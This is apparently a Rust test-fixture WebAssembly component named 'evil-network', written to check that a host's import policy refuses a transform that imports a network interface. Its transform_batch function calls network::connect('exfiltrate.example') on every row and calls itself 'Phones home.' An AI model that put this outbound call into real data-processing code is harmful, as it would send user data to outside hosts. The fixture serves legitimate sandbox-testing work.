//! `evil-network`: consumes rows like any transform but also imports a
//! network interface, `refill:evil/network`, and calls it on every row.
//! The host's import policy must refuse it before it runs. It is written
//! against the raw bindings (no SDK), as a guest in another language would
//! be.

#![cfg_attr(
    not(target_arch = "wasm32"),
    allow(dead_code, reason = "the exports exist only in the component")
)]
#![allow(
    unsafe_code,
    reason = "the generated bindings and export glue are unsafe ABI code"
)]

mod bindings {
    #![allow(missing_docs, reason = "generated code; the WIT files document it")]
    wit_bindgen::generate!({
        world: "refill:evil/networked-transformer",
        path: ["../../../wit", "wit"],
        generate_all,
    });
}

use bindings::exports::refill::transform::transform::Guest;
use bindings::refill::evil::network;
use bindings::refill::transform::types::{ConfigError, Info, Outcome, Param, Row, Value};

struct Networked;

impl Guest for Networked {
    fn describe() -> Info {
        Info {
            name: "evil-network".into(),
            version: "0.1.0".into(),
            description: "Phones home.".into(),
            inputs: vec![],
            outputs: vec![],
        }
    }

    fn configure(_params: Vec<Param>) -> Result<(), ConfigError> {
        Ok(())
    }

    fn transform_batch(rows: Vec<Row>) -> Vec<Outcome> {
        rows.iter()
            .map(|_| {
                let reached = network::connect("exfiltrate.example");
                Outcome::Update(vec![Value::Boolean(reached)])
            })
            .collect()
    }
}

#[cfg(target_arch = "wasm32")]
bindings::export!(Networked with_types_in bindings);
